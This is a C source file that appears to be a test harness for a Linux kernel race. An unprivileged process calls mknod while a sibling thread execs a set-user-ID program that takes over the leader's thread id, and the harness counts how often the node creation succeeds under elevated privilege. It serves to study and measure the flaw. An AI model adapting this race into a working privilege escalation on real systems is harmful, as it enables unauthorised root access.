// race COUNT DELAY HOLD: a thread group leader without any privilege waits in mknod(2), while its second thread
// executes a set-user-ID program, which gets the leader's thread id (de_thread, fs/exec.c). It does so up to DELAY ns
// after the call began, and the program lives for HOLD ns then. It does that COUNT times, and prints how many nodes
// came of that, how often the program was executed, and how often the call was refused before. With one argument,
// HOLD, it is the set-user-ID program.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <pthread.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define FOLDER "/tmp/race"
#define SETUID FOLDER "/privileged"
#define NODE FOLDER "/open/node"

static void check(int failed, const char *what) {
	if (failed) {
		perror(what);
		exit(1);
	}
}

static void install(void) {
	char buffer[65536];
	ssize_t n;
	int from = open("/proc/self/exe", O_RDONLY), to;
	check(mkdir(FOLDER, 0755) || mkdir(FOLDER "/open", 0777) || chmod(FOLDER "/open", 0777), FOLDER);
	to = open(SETUID, O_WRONLY | O_CREAT | O_EXCL, 0755);
	check(from < 0 || to < 0, SETUID);
	while ((n = read(from, buffer, sizeof buffer)) > 0)
		check(write(to, buffer, n) != n, "write");
	check(n || fchmod(to, 04755) || close(to), SETUID);
}

static volatile int calling;
static long delay; // ns
static char *hold;

static void sleep_ns(long ns) {
	struct timespec time = {ns / 1000000000, ns % 1000000000};
	nanosleep(&time, 0);
}

static void *privileged(void *unused) {
	char *argv[] = {SETUID, hold, 0}, *envp[] = {0};
	const long spun = 80000; // sleeping is not exact
	struct timespec start, now;
	while (!calling)
		sched_yield();
	clock_gettime(CLOCK_MONOTONIC, &start);
	if (delay > spun)
		sleep_ns(delay - spun);
	do
		clock_gettime(CLOCK_MONOTONIC, &now);
	while ((now.tv_sec - start.tv_sec) * 1000000000L + now.tv_nsec - start.tv_nsec < delay);
	execve(SETUID, argv, envp);
	_exit(3);
}

static void attempt(void) {
	pthread_t other;
	check(pthread_create(&other, 0, privileged, 0), "pthread_create");
	calling = 1;
	mknod(NODE, S_IFCHR | 0666, makedev(1, 3));
	_exit(errno == EPERM ? 2 : 4);
}

int main(int argc, char **argv) {
	int gained = 0, executed = 0, refused = 0;
	if (argc == 2) {
		sleep_ns(atol(argv[1]));
		return geteuid() ? 5 : 0;
	}
	check(argc != 4, "race COUNT DELAY HOLD");
	hold = argv[3];
	install();
	check(setgroups(0, 0) || setresgid(1000, 1000, 1000) || setresuid(1000, 1000, 1000), "setresuid");
	prctl(PR_SET_DUMPABLE, 1, 0, 0, 0);
	for (int i = 0; i < atoi(argv[1]); i++) {
		struct stat st;
		int status;
		delay = rand() % atol(argv[2]);
		pid_t child = fork();
		check(child < 0, "fork");
		if (!child)
			attempt();
		check(waitpid(child, &status, 0) != child, "waitpid");
		if (WIFEXITED(status) && WEXITSTATUS(status) == 0)
			executed++;
		else if (WIFEXITED(status) && WEXITSTATUS(status) == 2)
			refused++;
		else
			check(1, "a child ended otherwise");
		if (!lstat(NODE, &st)) {
			gained++;
			check(rename(NODE, FOLDER "/open/gained"), "rename");
		}
	}
	printf("%d %d %d\n", gained, executed, refused);
	return 0;
}
